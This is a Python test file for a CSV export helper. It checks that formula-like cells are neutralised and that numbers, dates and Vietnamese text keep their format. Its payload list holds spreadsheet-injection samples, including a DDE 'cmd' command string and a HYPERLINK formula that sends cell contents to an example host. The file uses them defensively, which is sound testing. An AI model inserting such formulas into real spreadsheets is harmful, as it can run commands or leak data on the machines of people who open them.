"""Tables for spreadsheets: what a stranger typed never runs, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from songhanh.lib.sheets import csv_table, safe

PAYLOADS = [
    f"{lead}{body}"
    for lead in (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "\u00a0=",
        "'=",
        '"=',
    )
    for body in (
        "1+1",
        "SUM(A1:A9)",
        'HYPERLINK("http://example.org/?"&A1,"xem")',
        "cmd|' /C calc'!A0",
    )
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_tells_every_formula_to_be_text(payload) -> None:
    assert safe(payload).startswith("'")
    read = next(csv.reader(io.StringIO(csv_table([payload], [])[1:]), delimiter=";"))
    assert read == [f"'{payload}"]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (None, ""),
        (0, "0"),
        (-12, "-12"),
        (Decimal("-1234.50"), "-1234,50"),
        (date(2026, 11, 23), "23/11/2026"),
        ("Kế hoạch số 95/KH-UBND", "Kế hoạch số 95/KH-UBND"),
        ("3/3 xã; 5 phường", "3/3 xã; 5 phường"),
        ("– không phát sinh", "– không phát sinh"),
        ("", ""),
    ],
)
def test_it_writes_other_cells_as_they_are(cell, written) -> None:
    assert safe(cell) == written


def test_it_opens_with_its_marks_and_keeps_lines_and_semicolons_in_their_cell() -> None:
    table = csv_table(["Nhiệm vụ", "Hạn"], [["Dòng 1\nDòng 2; còn nữa", date(2026, 1, 3)]])
    assert table.startswith("\ufeffNhiệm vụ;Hạn\r\n")
    rows = list(csv.reader(io.StringIO(table[1:], newline=""), delimiter=";"))
    assert rows[1] == ["Dòng 1\nDòng 2; còn nữa", "03/01/2026"]
